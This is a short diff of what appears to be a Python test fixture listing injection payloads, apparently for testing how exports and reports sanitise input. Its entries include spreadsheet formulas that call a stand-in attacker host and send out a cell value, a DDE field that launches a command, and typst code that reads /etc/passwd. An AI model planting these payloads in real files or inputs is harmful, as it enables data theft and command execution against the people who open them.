@@ -79,7 +79,7 @@ PAYLOADS: Mapping[str, str] = {
     "formula, true minus": "\u22121+1",
     "link of a spreadsheet": f'=HYPERLINK("https://{EVIL}/h","Alder")',
     "fetching formula": f'=WEBSERVICE("https://{EVIL}/w")&A1',
-    "field of DDE": "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "field of DDE": '=DDE("cmd";"/C calc";"x")',
     # the languages that reports and lookups are made in
     "typst code": '#import "@preview/x:1.0.0": * #read("/etc/passwd") $x$ *b* _e_ @ref <l>',
     "typst link": f'#link("https://{EVIL}/t")[Alder] #image("/etc/x.png")',
